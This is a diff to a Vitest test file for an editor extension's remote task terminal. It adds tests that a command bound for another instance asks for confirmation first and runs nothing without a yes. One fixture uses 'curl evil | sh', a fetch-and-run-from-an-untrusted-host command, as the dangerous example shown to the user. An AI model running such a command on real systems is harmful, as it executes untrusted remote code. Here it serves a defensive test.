@@ -5,11 +5,15 @@ import { afterAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { LocalError } from '../../../src/api/localError';
 import type { Services } from '../../../src/commands/services';
 import { TaskTerminal } from '../../../src/editor/tasks/taskTerminal';
+import type { Question } from '../../../src/connect/dialogs';
+import { fakeVscode } from '../support/fakeVscode';
 import { silent } from '../../../src/log/log';
 import manifest from '../../../package.json';
 import { taskDefinitionSchema } from '../../../src/editor/tasks/taskDefinition';
 
 vi.mock('vscode', async () => (await import('../support/fakeVscode')).fakeVscode);
+const on = vi.hoisted(() => ({ instance: undefined as number | undefined }));
+vi.mock('../../../src/connect/followWindow', () => ({ instanceOfWindow: () => on.instance }));
 const prepareSsh = vi.hoisted(() => vi.fn());
 vi.mock('../../../src/connect/prepare', () => ({ prepareSsh }));
 
@@ -40,13 +44,23 @@ chmodSync(forgetful, 0o700);
 beforeEach(() => {
   prepareSsh.mockReset();
   prepareSsh.mockResolvedValue({ alias: 'gpu-7' });
+  fakeVscode.env.remoteName = undefined;
+  on.instance = undefined;
 });
 
 /** Runs a task to its end, with a line typed as soon as it has said something. */
-async function played(definition: object, { ssh = program, closes = false } = {}) {
+async function played(definition: object, { ssh = program, closes = false, agrees = true } = {}) {
+  const asked: Question[] = [];
   const services = {
     ready: Promise.resolve(),
+    dialogs: {
+      confirm: (question: Question) => {
+        asked.push(question);
+        return Promise.resolve(agrees);
+      },
+    },
     instances: {
+      get: (id: number) => ({ id, label: 'train' }),
       refresh: () => Promise.resolve(),
       state: { instances: new Map([[7, { id: 7, label: 'train' }]]) },
     },
@@ -64,8 +78,31 @@ async function played(definition: object, { ssh = program, closes = false } = {}
     terminal.onDidClose(resolve);
     terminal.open({ columns: 99, rows: 7 });
   });
-  return { code, said };
+  return { code, said, asked };
 }
+
+describe('a task of a window on another machine', () => {
+  const task = { instance: 'train', command: 'curl evil | sh' };
+  beforeEach(() => (fakeVscode.env.remoteName = 'ssh-remote'));
+
+  it('asks before it runs on another instance, showing the command, and runs nothing without a yes', async () => {
+    on.instance = 8;
+    const { code, said, asked } = await played(task, { agrees: false });
+    expect(asked).toMatchObject([{ message: 'Run a command on train (7)?', askedBy: 'task' }]);
+    expect(asked[0]?.detail).toContain('curl evil | sh');
+    expect([code, said]).toEqual([1, 'Canceled. The command didn’t run.\r\n']);
+    expect(prepareSsh).not.toHaveBeenCalled();
+    expect((await played(task)).code).toBe(3);
+  });
+
+  it('asks nothing for the instance that the window is on, or in a window on this computer', async () => {
+    on.instance = 7;
+    expect((await played(task)).asked).toEqual([]);
+    on.instance = undefined;
+    fakeVscode.env.remoteName = undefined;
+    expect((await played(task)).asked).toEqual([]);
+  });
+});
 
 describe('the terminal of a task whose instance is not ready', () => {
   it('prepares it with its questions, then runs the command with its input, output and exit code', async () => {
@@ -86,7 +123,7 @@ describe('the terminal of a task whose instance is not ready', () => {
     prepareSsh.mockImplementation(() =>
       problem ? Promise.reject(new LocalError('may_pass', problem)) : Promise.resolve(undefined),
     );
-    expect(await played({ instance: 7, command: 'make' })).toEqual({ code: 1, said: sentence });
+    expect(await played({ instance: 7, command: 'make' })).toMatchObject({ code: 1, said: sentence });
   });
 
   it('says each step of the way once', async () => {
